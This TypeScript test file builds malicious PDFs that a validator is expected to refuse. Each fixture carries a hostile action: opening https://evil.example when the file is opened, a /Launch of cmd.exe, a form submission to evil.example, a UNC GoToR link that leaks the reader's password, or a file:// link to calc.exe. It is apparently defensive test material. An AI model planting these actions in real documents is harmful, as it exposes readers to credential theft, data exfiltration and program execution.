import { refused } from './corpus-file.ts';
import { beside, link, makePdf, onePage } from './make-pdf.ts';

/** Returns a PDF that performs this action when it is opened. */
function opening(action: string): Buffer {
  return makePdf(onePage(`/OpenAction${action}`));
}

/** PDFs that do more than turn pages and open plain links on a click. */
export const pdfsWithActions = [
  refused(
    'opens-address-twice-removed.pdf',
    'Opens an address by an object that is another object, which a link uses too',
    'Objects that are elsewhere are refused',
    () =>
      makePdf([
        ...onePage('/OpenAction 5 0 R', link(' 6 0 R')),
        '6 0 R',
        '<</S/URI/URI(https://evil.example)>>',
      ]),
  ),
  refused(
    'opens-address-of-list.pdf',
    'The same by an object that is a list of actions',
    'Lists are followed',
    () =>
      makePdf([
        ...onePage('/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 5 0 R>>', link(' 6 0 R')),
        '[6 0 R]',
        '<</S/URI/URI(https://evil.example)>>',
      ]),
  ),
  refused(
    'opens-nothing.pdf',
    'Opens by an action that is not in the file, for readers that look elsewhere',
    'Actions have to be there',
    () => opening(' 99 0 R'),
  ),
  refused('launch.pdf', 'Starts a program', 'Not on the list of actions', () =>
    beside('<</S/Launch/F(cmd.exe)>>'),
  ),
  refused('opens-address.pdf', 'Opens an address when it is opened', 'A link needs a click', () =>
    opening('<</S/URI/URI(https://evil.example)>>'),
  ),
  refused(
    'opens-address-after.pdf',
    'A harmless first action that is followed by an address',
    'A link needs a click',
    () => opening('<</S/GoTo/D[3 0 R/Fit]/Next<</S/URI/URI(https://evil.example)>>>>'),
  ),
  refused(
    'prints-itself.pdf',
    'Prints when it is opened',
    'Only turning pages is on the list',
    () => opening('<</S/Named/N/Print>>'),
  ),
  refused(
    'acts-on-page.pdf',
    'A page that acts when it is shown',
    'Automatic actions are refused',
    () => makePdf(onePage('', '/AA<</O<</S/GoTo/D[3 0 R/Fit]>>>>')),
  ),
  refused('submits-form.pdf', 'Sends a form to a server', 'Not on the list of actions', () =>
    makePdf(onePage('', link('<</S/SubmitForm/F(https://evil.example)>>'))),
  ),
  refused(
    'remote-page.pdf',
    'A link to a page of a file on a server, which sends the reader’s password there',
    'Not on the list of actions',
    () => makePdf(onePage('', link('<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>'))),
  ),
  refused(
    'file-link.pdf',
    'A link to a program on the reader’s disk',
    'Only web, mail and telephone',
    () => makePdf(onePage('', link('<</S/URI/URI(file:///c:/windows/system32/calc.exe)>>'))),
  ),
];
